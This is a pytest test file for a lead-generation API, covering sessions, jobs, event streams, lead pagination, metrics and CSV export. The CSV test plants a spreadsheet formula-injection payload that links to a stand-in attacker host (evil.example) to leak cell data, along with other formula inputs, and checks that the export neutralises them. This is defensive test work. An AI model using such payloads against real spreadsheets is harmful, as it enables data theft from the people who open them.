"""Every endpoint over real HTTP: what it answers, with which headers, and what it does."""

from __future__ import annotations

import csv
import io
import os
import re
import uuid
from collections.abc import Callable, Iterator
from decimal import Decimal
from typing import Any

import pytest

from prospectpro.domain.clock import utcnow
from prospectpro.services.export import neutralize
from prospectpro.services.users import create_user
from prospectpro.store.db import Database
from prospectpro.store.schema import leads
from tests.api.conftest import LiveServer, start_server
from tests.api.helpers import (
    CAFES,
    TERMINAL,
    assert_error,
    db_events,
    event_dicts,
    get_job,
    new_api_key,
    read_stream,
    submit,
    wait_for_job,
    wait_terminal,
    wait_until,
)

SLOW = ["tests.plugins:SlowEnricher"]


@pytest.fixture
def idle_server(make_server: Callable[..., LiveServer]) -> LiveServer:
    """No worker: jobs stay pending until the test changes them."""
    return make_server(workers=0)


@pytest.fixture(scope="module")
def shared_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """For parametrized checks that create nothing."""
    server = start_server(tmp_path_factory.mktemp("endpoints"), workers=0)
    yield server
    server.stop()


def insert_lead(db: Database, campaign_id: str, owner_id: str, name: str, score: int, **extra: Any) -> None:
    with db.write() as conn:
        conn.execute(
            leads.insert().values(
                campaign_id=campaign_id,
                owner_id=owner_id,
                dedup_key=f"test:{uuid.uuid4()}",
                business_name=name,
                confidence_score=score,
                score_breakdown={"test": score},
                sources=["test"],
                cost=0,
                created_at=utcnow(),
                **extra,
            )
        )


def owner_of(db: Database, job_id: str) -> str:
    from prospectpro.jobs.queue import get_job as db_get_job

    return db_get_job(db, job_id).owner_id


# -- POST /api/v1/campaigns ------------------------------------------------------


def test_submit_anonymous_gets_202_location_and_a_session(idle_server: LiveServer) -> None:
    with idle_server.client() as client:
        response = client.post("/api/v1/campaigns", json=CAFES)
        assert response.status_code == 202, response.text
        body = response.json()
        assert set(body) == {"job_id", "campaign_id", "status", "urls", "created", "session_token", "notify_secret"}
        assert body["status"] == "pending" and body["created"] is True and body["notify_secret"] is None
        job_id, campaign_id = body["job_id"], body["campaign_id"]
        assert response.headers["location"] == f"/api/v1/jobs/{job_id}"
        base = idle_server.url
        assert body["urls"] == {
            "job": f"{base}/api/v1/jobs/{job_id}",
            "events": f"{base}/api/v1/jobs/{job_id}/events",
            "leads": f"{base}/api/v1/campaigns/{campaign_id}/leads",
            "leads_csv": f"{base}/api/v1/campaigns/{campaign_id}/leads.csv",
            "page": f"{base}/jobs/{job_id}",
        }
        # The session: shown once in the body, and as an HttpOnly cookie with the same value.
        token = body["session_token"]
        assert token and token.startswith("pps_")
        cookie = response.headers["set-cookie"]
        assert cookie.startswith(f"pp_session={token};")
        assert "HttpOnly" in cookie and "samesite=lax" in cookie.lower() and "Path=/" in cookie
        # The cookie alone identifies the caller from now on (httpx keeps it) ...
        assert client.get(response.headers["location"]).json()["id"] == job_id
        # ... and a second submission from it opens no new session.
        again = client.post("/api/v1/campaigns", json=CAFES)
        assert again.status_code == 202
        assert again.json()["session_token"] is None and "set-cookie" not in again.headers
        assert {j["id"] for j in client.get("/api/v1/jobs").json()["jobs"]} == {job_id, again.json()["job_id"]}
    # The token also works as a Bearer token, without the cookie.
    with idle_server.client(token) as client:
        assert get_job(client, job_id)["id"] == job_id


def test_submit_with_an_api_key_gets_no_session(idle_server: LiveServer) -> None:
    key = new_api_key(idle_server.db)
    with idle_server.client(key) as client:
        response = client.post("/api/v1/campaigns", json=CAFES)
        assert response.status_code == 202, response.text
        assert response.json()["session_token"] is None
        assert "set-cookie" not in response.headers
        assert response.headers["location"] == f"/api/v1/jobs/{response.json()['job_id']}"


def test_submit_defaults(idle_server: LiveServer) -> None:
    with idle_server.client() as client:
        body = submit(client)
        job = get_job(client, body["job_id"])
        config = job["config"]
        assert config["max_results"] == 20
        assert Decimal(config["budget_limit"]) == Decimal(5)
        assert config["min_score"] == 50
        assert config["tier"] == "base"
        assert config["include_delivered"] is False
        assert config["business_type"] == "cafe"
        assert job["status"] == "pending" and job["progress"] == 0 and job["current_stage"] == "queued"
        assert job["id"] == job["job_id"] == body["job_id"] and job["campaign_id"] == body["campaign_id"]
        assert job["cancel_requested"] is False and job["attempts"] == 0 and job["error"] is None
        campaign = client.get(f"/api/v1/campaigns/{body['campaign_id']}").json()
        assert campaign["max_results"] == 20 and campaign["min_score"] == 50 and campaign["tier"] == "base"
        assert Decimal(campaign["budget_limit"]) == Decimal(5) and campaign["include_delivered"] is False


def test_submit_keeps_explicit_values(idle_server: LiveServer) -> None:
    # An API key: anonymous sessions use the base tier only (issue 9).
    with idle_server.client(new_api_key(idle_server.db)) as client:
        body = submit(
            client,
            {
                "business_type": "coffee shop",
                "location": "Helsinki",
                "max_results": 7,
                "budget_limit": "12.5",
                "min_confidence_score": 30,
                "tier": "professional",
                "include_delivered": True,
            },
        )
        config = get_job(client, body["job_id"])["config"]
        assert (config["business_type"], config["max_results"], config["min_score"]) == ("cafe", 7, 30)
        assert Decimal(config["budget_limit"]) == Decimal("12.5")
        assert (config["tier"], config["include_delivered"]) == ("professional", True)


# -- GET /api/v1/jobs, GET /api/v1/jobs/{id} -----------------------------------------


def test_job_list_is_own_newest_first_paginated_and_filtered(idle_server: LiveServer) -> None:
    with idle_server.client() as client:
        first = submit(client)
        ids = [first["job_id"]]
    token = first["session_token"]
    with idle_server.client(token) as client:
        ids += [submit(client)["job_id"] for _ in range(4)]
        newest_first = list(reversed(ids))
        page = client.get("/api/v1/jobs").json()
        assert [j["id"] for j in page["jobs"]] == newest_first
        assert (page["total"], page["limit"], page["offset"]) == (5, 20, 0)
        created = [j["created_at"] for j in page["jobs"]]
        assert created == sorted(created, reverse=True)

        pages = [client.get("/api/v1/jobs", params={"limit": 2, "offset": o}).json() for o in (0, 2, 4)]
        assert [len(p["jobs"]) for p in pages] == [2, 2, 1]
        assert [j["id"] for p in pages for j in p["jobs"]] == newest_first
        assert all(p["total"] == 5 and p["limit"] == 2 for p in pages)
        assert client.get("/api/v1/jobs", params={"offset": 5}).json()["jobs"] == []

        cancelled = client.post(f"/api/v1/jobs/{ids[1]}/cancel")
        assert cancelled.status_code == 202 and cancelled.json()["status"] == "cancelled"
        only_cancelled = client.get("/api/v1/jobs", params={"status": "cancelled"}).json()
        assert [j["id"] for j in only_cancelled["jobs"]] == [ids[1]] and only_cancelled["total"] == 1
        pending = client.get("/api/v1/jobs", params={"status": "pending"}).json()
        assert [j["id"] for j in pending["jobs"]] == [i for i in newest_first if i != ids[1]]
        assert client.get("/api/v1/jobs", params={"status": "completed"}).json()["total"] == 0

        for bad in ({"status": "done"}, {"limit": 0}, {"limit": 201}, {"offset": -1}):
            assert_error(client.get("/api/v1/jobs", params=bad), 422, "invalid_input")

    # Someone else's list holds none of them; a caller without credentials owns nothing.
    with idle_server.client(new_api_key(idle_server.db)) as other:
        submit(other)
        theirs = other.get("/api/v1/jobs").json()
        assert theirs["total"] == 1 and not set(ids) & {j["id"] for j in theirs["jobs"]}
    with idle_server.client() as nobody:
        assert nobody.get("/api/v1/jobs").json() == {"jobs": [], "total": 0, "limit": 20, "offset": 0}


def test_get_job_of_a_completed_campaign(live_server: LiveServer) -> None:
    with live_server.client() as client:
        body = submit(client, {**CAFES, "max_results": 3, "min_confidence_score": 0})
    with live_server.client(body["session_token"]) as client:
        job = wait_terminal(client, body["job_id"])
        assert job["status"] == "completed" and job["progress"] == 100 and job["current_stage"] == "finished"
        assert job["started_at"] and job["completed_at"] and job["attempts"] == 1
        assert job["metrics"]["leads"] == 3
        assert_error(client.get(f"/api/v1/jobs/{uuid.uuid4()}"), 404, "not_found")


# -- POST /api/v1/jobs/{id}/cancel ---------------------------------------------------


def test_cancel_a_pending_job_at_once(idle_server: LiveServer) -> None:
    with idle_server.client() as client:
        body = submit(client)
        response = client.post(f"/api/v1/jobs/{body['job_id']}/cancel")
        assert response.status_code == 202, response.text
        job = response.json()
        assert job["status"] == "cancelled" and job["completed_at"] is not None
        assert get_job(client, body["job_id"])["status"] == "cancelled"
        assert client.get(f"/api/v1/campaigns/{body['campaign_id']}").json()["status"] == "cancelled"
        assert [e["kind"] for e in db_events(idle_server.db, body["job_id"])] == ["created", "cancelled"]
        # Cancelling again changes nothing and writes no event.
        again = client.post(f"/api/v1/jobs/{body['job_id']}/cancel")
        assert again.status_code == 202 and again.json()["status"] == "cancelled"
        assert len(db_events(idle_server.db, body["job_id"])) == 2
        assert_error(client.post(f"/api/v1/jobs/{uuid.uuid4()}/cancel"), 404, "not_found")


def test_cancel_a_running_job_keeps_the_leads_enriched_so_far(
    make_server: Callable[..., LiveServer], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PROSPECTPRO_TEST_ENRICH_DELAY", "0.05")
    server = make_server(extra_enrichers=SLOW, enrich_concurrency=1)
    key = new_api_key(server.db)
    with server.client(key) as client:
        body = submit(client, {**CAFES, "max_results": 20, "min_confidence_score": 0})
        job_id = body["job_id"]
        wait_for_job(client, job_id, lambda j: j["metrics"].get("leads_enriched", 0) >= 3)
        response = client.post(f"/api/v1/jobs/{job_id}/cancel")
        assert response.status_code == 202, response.text
        asked = response.json()
        assert asked["status"] == "processing" and asked["cancel_requested"] is True

        job = wait_terminal(client, job_id)
        assert job["status"] == "cancelled" and job["cancel_requested"] is True
        kept = client.get(f"/api/v1/campaigns/{body['campaign_id']}/leads").json()
        assert 3 <= kept["total"] < 20
        assert job["metrics"]["leads"] == kept["total"]
        campaign = client.get(f"/api/v1/campaigns/{body['campaign_id']}").json()
        assert campaign["status"] == "cancelled" and campaign["results_count"] == kept["total"]
        kinds = [e["kind"] for e in db_events(server.db, job_id)]
        assert kinds[-1] == "cancelled" and "cancel_requested" in kinds and "completed" not in kinds
        assert kinds.index("cancel_requested") < len(kinds) - 1


# -- GET /api/v1/jobs/{id}/events?format=json ----------------------------------------


def test_events_as_json_pages(live_server: LiveServer) -> None:
    with live_server.client() as client:
        body = submit(client, {**CAFES, "max_results": 3})
    with live_server.client(body["session_token"]) as client:
        job_id = body["job_id"]
        wait_terminal(client, job_id)
        log = db_events(live_server.db, job_id)
        assert [e["seq"] for e in log] == list(range(1, len(log) + 1)) and len(log) > 4

        url = f"/api/v1/jobs/{job_id}/events"
        whole = client.get(url, params={"format": "json"})
        assert whole.status_code == 200 and whole.headers["content-type"].startswith("application/json")
        assert whole.json() == {"events": log, "next_after": len(log)}

        collected: list[dict[str, Any]] = []
        after = 0
        while True:
            page = client.get(url, params={"format": "json", "after": after, "limit": 2}).json()
            if not page["events"]:
                assert page["next_after"] == after
                break
            assert len(page["events"]) <= 2 and page["next_after"] == page["events"][-1]["seq"]
            collected += page["events"]
            after = page["next_after"]
        assert collected == log

        tail = client.get(url, params={"format": "json", "after": 2}).json()
        assert tail["events"] == log[2:]
        resumed = client.get(url, params={"format": "json"}, headers={"Last-Event-ID": "2"}).json()
        assert resumed == tail
        for event in log:
            assert set(event) == {"seq", "kind", "data", "created_at"}
            assert event["data"]["job_id"] == job_id and "status" in event["data"] and "message" in event["data"]
        assert log[0]["kind"] == "created" and log[-1]["kind"] == "completed"
        # Last-Event-ID is any string (the SSE standard): one that is no sequence number is no position.
        for junk in ("x", "-3", "null", "1e3", "\xb3", "9" * 30 + "x"):  # \xb3: "³" passes str.isdigit()
            everything = client.get(url, params={"format": "json"}, headers={"Last-Event-ID": junk.encode("latin-1")})
            assert everything.status_code == 200 and everything.json()["events"] == log, junk
        after_two = client.get(url, params={"format": "json", "after": 2}, headers={"Last-Event-ID": "null"})
        assert after_two.json()["events"] == log[2:]
        assert_error(client.get(url, params={"format": "xml"}), 422)


# -- campaigns and leads ---------------------------------------------------------


def test_campaign_and_its_leads_sorted_by_score_and_paginated(live_server: LiveServer) -> None:
    with live_server.client() as client:
        body = submit(client, {**CAFES, "max_results": 12, "min_confidence_score": 0})
    with live_server.client(body["session_token"]) as client:
        job = wait_terminal(client, body["job_id"])
        assert job["status"] == "completed"
        campaign = client.get(f"/api/v1/campaigns/{body['campaign_id']}")
        assert campaign.status_code == 200
        c = campaign.json()
        assert c["id"] == body["campaign_id"] and c["job_id"] == body["job_id"]
        assert c["status"] == "completed" and c["results_count"] == job["metrics"]["leads"] > 0
        assert c["completed_at"] is not None and c["business_type"] == "cafe"

        url = f"/api/v1/campaigns/{body['campaign_id']}/leads"
        everything = client.get(url).json()
        assert everything["total"] == c["results_count"] and (everything["limit"], everything["offset"]) == (100, 0)
        scores = [lead["confidence_score"] for lead in everything["leads"]]
        assert scores == sorted(scores, reverse=True)
        paged = []
        for offset in range(0, everything["total"], 5):
            page = client.get(url, params={"limit": 5, "offset": offset}).json()
            assert page["total"] == everything["total"] and page["offset"] == offset
            paged += page["leads"]
        assert paged == everything["leads"]
        assert client.get(url, params={"offset": everything["total"]}).json()["leads"] == []
        for bad in ({"limit": 0}, {"limit": 1001}, {"offset": -1}):
            assert_error(client.get(url, params=bad), 422, "invalid_input")
        assert_error(client.get(f"/api/v1/campaigns/{uuid.uuid4()}"), 404, "not_found")
        assert_error(client.get(f"/api/v1/campaigns/{uuid.uuid4()}/leads"), 404, "not_found")


def test_leads_order_and_ties_with_known_scores(idle_server: LiveServer) -> None:
    with idle_server.client() as client:
        body = submit(client)
    owner = owner_of(idle_server.db, body["job_id"])
    for name, score in [("Beta", 40), ("Alpha", 90), ("Gamma", 40), ("Delta", 75), ("Aardvark", 40)]:
        insert_lead(idle_server.db, body["campaign_id"], owner, name, score)
    with idle_server.client(body["session_token"]) as client:
        url = f"/api/v1/campaigns/{body['campaign_id']}/leads"
        names = [lead["business_name"] for lead in client.get(url).json()["leads"]]
        assert names == ["Alpha", "Delta", "Aardvark", "Beta", "Gamma"]
        second = client.get(url, params={"limit": 2, "offset": 2}).json()
        assert [lead["business_name"] for lead in second["leads"]] == ["Aardvark", "Beta"] and second["total"] == 5


def test_leads_csv_is_excel_safe(idle_server: LiveServer) -> None:
    with idle_server.client() as client:
        body = submit(client)
    owner = owner_of(idle_server.db, body["job_id"])
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    insert_lead(idle_server.db, body["campaign_id"], owner, evil, 90, phone="+358 40 123 4567", email="@SUM(1+1)")
    insert_lead(idle_server.db, body["campaign_id"], owner, "Café Ääni, \"the\" best", 80, address="Fredrikinkatu 1")
    with idle_server.client(body["session_token"]) as client:
        response = client.get(f"/api/v1/campaigns/{body['campaign_id']}/leads.csv")
        assert response.status_code == 200
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == f'attachment; filename="leads-{body["campaign_id"]}.csv"'
        assert response.content.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        header, first, second = rows
        assert header[0] == "business_name" and "email" in header
        cell = dict(zip(header, first, strict=True))
        assert cell["business_name"] == "'" + evil
        # A phone number cannot run anything: it reaches a CRM as it is (issue 15); the e-mail is neutralised.
        assert cell["phone"] == "+358 40 123 4567" and cell["email"] == "'@SUM(1+1)"
        assert cell["confidence_score"] == "90"
        other = dict(zip(header, second, strict=True))
        assert other["business_name"] == 'Café Ääni, "the" best' and other["address"] == "Fredrikinkatu 1"
        # An empty campaign still gets the header row.
        empty = submit(client)
        lines = client.get(f"/api/v1/campaigns/{empty['campaign_id']}/leads.csv").content.decode("utf-8-sig")
        assert lines.splitlines() == [",".join(header)]
        assert_error(client.get(f"/api/v1/campaigns/{uuid.uuid4()}/leads.csv"), 404, "not_found")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+358 40 1", "'+358 40 1"),
        ("-2+3", "'-2+3"),
        ("-A1", "'-A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ('=HYPERLINK("x")', "'=HYPERLINK(\"x\")"),
        ("Cafe = good", "Cafe = good"),
        ("", ""),
        ("Kahvila", "Kahvila"),
    ],
)
def test_neutralize(value: str, expected: str) -> None:
    assert neutralize(value) == expected


# Regression test; the bug it caught (since fixed): services/export.py neutralize() quotes plain negative
# numbers, so every western-hemisphere longitude in leads.csv becomes text like "'-74.006"
def test_csv_keeps_negative_coordinates_numeric(idle_server: LiveServer) -> None:
    with idle_server.client() as client:
        body = submit(client)
    owner = owner_of(idle_server.db, body["job_id"])
    insert_lead(idle_server.db, body["campaign_id"], owner, "Joe's", 70, latitude=40.7128, longitude=-74.006)
    with idle_server.client(body["session_token"]) as client:
        text = client.get(f"/api/v1/campaigns/{body['campaign_id']}/leads.csv").content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))
    assert dict(zip(header, row, strict=True))["longitude"] == "-74.006"


# -- /healthz and /metrics ---------------------------------------------------------


def test_healthz_ok_with_a_worker(live_server: LiveServer) -> None:
    with live_server.client() as client:
        body = wait_until(lambda: (r := client.get("/healthz").json())["status"] == "ok" and r, what="healthz ok")
        assert body == {"status": "ok", "database": "ok", "schema_current": True, "workers_alive": 1, "queue_depth": 0}


def test_healthz_degraded_without_workers(idle_server: LiveServer) -> None:
    with idle_server.client() as client:
        response = client.get("/healthz")
        assert response.status_code == 200
        assert response.json() == {
            "status": "degraded",
            "database": "ok",
            "schema_current": True,
            "workers_alive": 0,
            "queue_depth": 0,
        }
        submit(client)
        submit(client)
        assert client.get("/healthz").json()["queue_depth"] == 2


def metric(text: str, name: str, labels: str = "") -> float:
    match = re.search(rf"^{re.escape(name + labels)} (\S+)$", text, re.MULTILINE)
    assert match, f"{name}{labels} not in metrics"
    return float(match.group(1))


def test_metrics_prometheus_text(live_server: LiveServer) -> None:
    with live_server.client() as client:
        body = submit(client, {**CAFES, "max_results": 2})
        wait_terminal(client, body["job_id"])
        response = client.get("/metrics")
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/plain")
        text = response.text
        for status in ("pending", "processing", "completed", "failed", "cancelled"):
            metric(text, "prospectpro_jobs", f'{{status="{status}"}}')
        assert metric(text, "prospectpro_jobs", '{status="completed"}') == 1
        assert metric(text, "prospectpro_queue_depth") == 0
        assert "# TYPE prospectpro_job_duration_seconds histogram" in text
        assert metric(text, "prospectpro_job_duration_seconds_count") == 1
        assert metric(text, "prospectpro_job_duration_seconds_bucket", '{le="+Inf"}') == 1
        assert metric(text, "prospectpro_sse_clients") == 0
        # Which process answered (the server runs in this test's process), and its resources.
        assert re.search(rf'^prospectpro_server_info{{pid="{os.getpid()}",version="[^"]+"}} 1\.0$', text, re.MULTILINE)
        assert metric(text, "process_resident_memory_bytes") > 10 * 2**20


def test_metrics_count_queue_depth_and_open_streams(idle_server: LiveServer) -> None:
    with idle_server.client() as client:
        body = submit(client)
        submit(client)
        text = client.get("/metrics").text
        assert metric(text, "prospectpro_jobs", '{status="pending"}') == 2
        assert metric(text, "prospectpro_queue_depth") == 2
        with client.stream("GET", f"/api/v1/jobs/{body['job_id']}/events") as stream:
            assert stream.status_code == 200
            lines = stream.iter_lines()  # keep a reference: a collected iterator closes the connection
            assert next(lines) == "event: snapshot"  # subscribed before the snapshot: the stream is counted
            with idle_server.client() as probe:
                wait_until(lambda: metric(probe.get("/metrics").text, "prospectpro_sse_clients") == 1)
        with idle_server.client() as probe:
            wait_until(lambda: metric(probe.get("/metrics").text, "prospectpro_sse_clients") == 0, timeout=10)


# -- the compatibility endpoint ------------------------------------------------------

COMPAT = "/functions/v1/business-discovery-background"


def test_compat_endpoint_answer_and_defaults(live_server: LiveServer) -> None:
    with live_server.client() as client:
        response = client.post(COMPAT, json={"businessType": "cafe", "location": "Helsinki", "userEmail": "a@b.c"})
        assert response.status_code == 202, response.text
        body = response.json()
        assert set(body) == {
            "success", "message", "jobId", "campaignId", "status", "estimatedTime", "realtimeChannel", "sessionToken",
        }  # fmt: skip
        assert body["success"] is True and body["status"] == "pending" and body["message"]
        assert body["estimatedTime"] == "about 1 minute"
        job_id = body["jobId"]
        assert body["realtimeChannel"] == f"{live_server.url}/api/v1/jobs/{job_id}/events"
        token = body["sessionToken"]
        assert token.startswith("pps_") and response.headers["set-cookie"].startswith(f"pp_session={token};")
    with live_server.client(token) as client:
        job = get_job(client, job_id)
        assert job["campaign_id"] == body["campaignId"]
        config = job["config"]
        assert config["max_results"] == 5
        assert Decimal(config["budget_limit"]) == Decimal(50)
        assert config["min_score"] == 50 and config["tier"] == "base"

        # realtimeChannel is this job's event stream, to its end.
        with client.stream("GET", body["realtimeChannel"]) as stream:
            assert stream.status_code == 200 and stream.headers["content-type"].startswith("text/event-stream")
            snapshot, events, _, ended = read_stream(stream)
        assert ended and snapshot is not None and snapshot.json()["job_id"] == job_id
        assert event_dicts(events) == db_events(live_server.db, job_id)
        assert events[-1].json()["data"]["status"] in TERMINAL


def test_compat_endpoint_with_values_and_an_api_key(idle_server: LiveServer) -> None:
    key = new_api_key(idle_server.db)
    with idle_server.client(key) as client:
        response = client.post(
            COMPAT,
            json={
                "businessType": "restaurant",
                "location": "Helsinki",
                "maxResults": 100,
                "budgetLimit": 7,
                "minConfidenceScore": 10,
                "sessionUserId": "legacy-user-1",
                "somethingElse": True,
            },
        )
        assert response.status_code == 202, response.text
        body = response.json()
        assert body["sessionToken"] is None and "set-cookie" not in response.headers
        assert body["estimatedTime"] == "about 3 minutes"
        config = get_job(client, body["jobId"])["config"]
        assert (config["business_type"], config["max_results"], config["min_score"]) == ("restaurant", 100, 10)
        assert Decimal(config["budget_limit"]) == Decimal(7)


@pytest.mark.parametrize(
    ("kwargs", "status"),
    [
        ({"json": {"location": "Helsinki"}}, 422),
        ({"json": {"businessType": "cafe", "location": "Helsinki", "maxResults": 0}}, 422),
        ({"json": {"businessType": "cafe", "location": "Helsinki", "minConfidenceScore": 101}}, 422),
        ({"json": {"businessType": "nonsense-type-xyz", "location": "Helsinki"}}, 422),
        ({"json": {"businessType": "cafe", "location": "Atlantis Under The Sea"}}, 422),
        ({"content": b"{oops", "headers": {"content-type": "application/json"}}, 400),
        ({"content": b"businessType=cafe", "headers": {"content-type": "application/x-www-form-urlencoded"}}, 415),
        ({"content": b"{}" + b" " * 70_000, "headers": {"content-type": "application/json"}}, 413),
        ({"json": {"businessType": "cafe", "location": "Helsinki"}, "headers": {"Authorization": "Bearer nope"}}, 401),
    ],
)
def test_compat_errors_carry_success_false(shared_server: LiveServer, kwargs: dict[str, Any], status: int) -> None:
    with shared_server.client() as client:
        response = client.post(COMPAT, **kwargs)
        body = assert_error(response, status)
        assert body["success"] is False


def test_v1_errors_do_not_carry_success(idle_server: LiveServer) -> None:
    with idle_server.client() as client:
        body = assert_error(client.post("/api/v1/campaigns", json={"location": "Helsinki"}), 422)
        assert "success" not in body
        assert "success" not in assert_error(client.get(f"/api/v1/jobs/{uuid.uuid4()}"), 404)


def test_unknown_route_gets_the_error_envelope(idle_server: LiveServer) -> None:
    with idle_server.client() as client:
        assert_error(client.get("/api/v1/nothing-here"), 404, "not_found")
        not_allowed = client.delete("/api/v1/campaigns")
        assert_error(not_allowed, 405, "method_not_allowed")
        assert not_allowed.headers["allow"] == "POST"


def test_create_user_key_is_shown_once_and_works(idle_server: LiveServer) -> None:
    principal, key = create_user(idle_server.db, "alice")
    assert key.startswith("ppk_") and principal.kind == "user" and principal.name == "alice"
    with idle_server.client(key) as client:
        body = submit(client)
        assert owner_of(idle_server.db, body["job_id"]) == principal.user_id
